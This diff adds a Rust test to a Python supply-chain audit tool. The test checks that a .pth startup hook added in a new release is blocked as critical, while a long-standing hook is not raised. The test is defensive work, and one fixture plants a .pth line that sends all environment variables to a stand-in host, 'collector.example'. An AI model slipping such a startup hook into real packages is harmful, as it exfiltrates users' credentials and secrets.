@@ -810,3 +810,127 @@ fn an_executable_with_a_loader_that_runs_on_import_is_high() {
         "{report}"
     );
 }
+
+/// History: a `.pth` that a release adds is new since the previous one and
+/// blocks; startup code that both releases carry is long-standing and is
+/// not raised.
+#[test]
+fn a_new_startup_hook_blocks_and_a_long_standing_one_is_not_raised() {
+    let server = crate::server::Server::start();
+    let tmp = tempfile::tempdir().unwrap();
+    let boot: &[u8] =
+        b"import os\n\ndef process_startup():\n    if os.environ.get('COVLIKE_PROCESS_START'):\n        import covlike.measure\n";
+    let pth: &[u8] = b"import covlike; covlike.process_startup()\n";
+    // Inert: the host is a reserved example name.
+    let stealer: &[u8] = b"import os, urllib.request; urllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n";
+    let mut releases = Vec::new();
+    for (name, version, files) in [
+        (
+            "covlike",
+            "1.0",
+            vec![("covlike/__init__.py", boot), ("a1_covlike.pth", pth)],
+        ),
+        (
+            "covlike",
+            "1.1",
+            vec![("covlike/__init__.py", boot), ("a1_covlike.pth", pth)],
+        ),
+        (
+            "stealth",
+            "1.0",
+            vec![("stealth/__init__.py", &b"X = 1\n"[..])],
+        ),
+        (
+            "stealth",
+            "1.1",
+            vec![
+                ("stealth/__init__.py", &b"X = 1\n"[..]),
+                ("stealth_boot.pth", stealer),
+            ],
+        ),
+    ] {
+        let filename = format!("{name}-{version}-py3-none-any.whl");
+        let path = wheel(tmp.path(), &filename, &files);
+        releases.push((name, version, filename, std::fs::read(path).unwrap()));
+    }
+    for project in ["covlike", "stealth"] {
+        let list: Vec<Release> = releases
+            .iter()
+            .filter(|r| r.0 == project)
+            .map(|(_, version, filename, bytes)| Release {
+                version,
+                filename,
+                bytes,
+                sha256: sha256_hex(bytes),
+                size: bytes.len() as u64,
+            })
+            .collect();
+        serve_releases(&server, project, &list);
+    }
+    let audit = |lock: &str| {
+        std::fs::write(tmp.path().join("requirements.txt"), lock).unwrap();
+        let (code, out, err) = run(customs(tmp.path()).args([
+            "audit",
+            "--format",
+            "json",
+            "--index-url",
+            &server.index_url(),
+            "requirements.txt",
+        ]));
+        assert!(code == 0 || code == 1, "{err}");
+        (code, json(&out))
+    };
+    let evidence = |f: &serde_json::Value, label: &str| -> Option<String> {
+        f["evidence"]
+            .as_array()?
+            .iter()
+            .find(|e| e["label"] == label)
+            .and_then(|e| e["value"].as_str().map(str::to_string))
+    };
+    let (code, report) = audit("stealth==1.1\n");
+    assert_eq!(code, 1, "{report}");
+    let hook = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "pth-startup-hook")
+        .unwrap_or_else(|| panic!("{report}"));
+    assert_eq!(hook["severity"], "critical", "{hook}");
+    assert_eq!(
+        evidence(hook, "new-since").as_deref(),
+        Some("1.0"),
+        "{hook}"
+    );
+    // The verdict says why, one line per blocking package.
+    let (code, table, _) = run(customs(tmp.path()).args([
+        "audit",
+        "--index-url",
+        &server.index_url(),
+        "requirements.txt",
+    ]));
+    assert_eq!(code, 1);
+    let why: Vec<&str> = table.lines().filter(|l| l.contains("blocked:")).collect();
+    assert_eq!(why.len(), 1, "{table}");
+    assert!(
+        why[0].contains("stealth 1.1: ")
+            && why[0].contains("(critical)")
+            && why[0].contains("new since 1.0")
+            && why[0].contains("stealth_boot.pth:1"),
+        "{table}"
+    );
+    let (code, report) = audit("covlike==1.1\n");
+    assert_eq!(code, 0, "{report}");
+    let hooks: Vec<&serde_json::Value> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "pth-startup-hook")
+        .collect();
+    assert_eq!(hooks.len(), 1, "{report}");
+    assert_eq!(
+        evidence(hooks[0], "long-standing").as_deref(),
+        Some("1.0"),
+        "{report}"
+    );
+    assert!(evidence(hooks[0], "new-since").is_none(), "{report}");
+}
